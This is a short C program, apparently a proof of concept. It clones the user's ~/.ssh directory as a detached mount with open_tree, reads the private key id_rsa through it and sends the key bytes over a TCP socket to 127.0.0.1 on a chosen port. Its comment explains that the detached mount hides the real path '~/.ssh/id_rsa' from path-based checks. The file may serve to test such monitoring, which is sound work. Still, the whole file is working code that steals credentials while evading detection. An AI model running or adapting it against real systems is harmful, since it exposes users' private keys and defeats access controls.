/* Opens the key below a detached clone of ~/.ssh (open_tree OPEN_TREE_CLONE, root), where a
 * walk that stops at the detached mount names it "/id_rsa", and sends it to 127.0.0.1:PORT.
 * Usage: open_tree PORT */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif

int main(int argc, char **argv)
{
    char folder[4096];
    snprintf(folder, sizeof(folder), "%s/.ssh", getenv("HOME"));
    int tree = (int)syscall(428 /* open_tree */, AT_FDCWD, folder, OPEN_TREE_CLONE | O_CLOEXEC);
    if (tree < 0) { perror("open_tree"); return 1; }
    int fd = openat(tree, "id_rsa", O_RDONLY);
    if (fd < 0) { perror("openat"); return 1; }
    char buf[4096]; ssize_t got = read(fd, buf, sizeof(buf));
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (connect(s, (void *)&a, sizeof(a)) == 0) write(s, buf, got);
    fprintf(stderr, "sent %zd bytes\n", got);
    return 0;
}
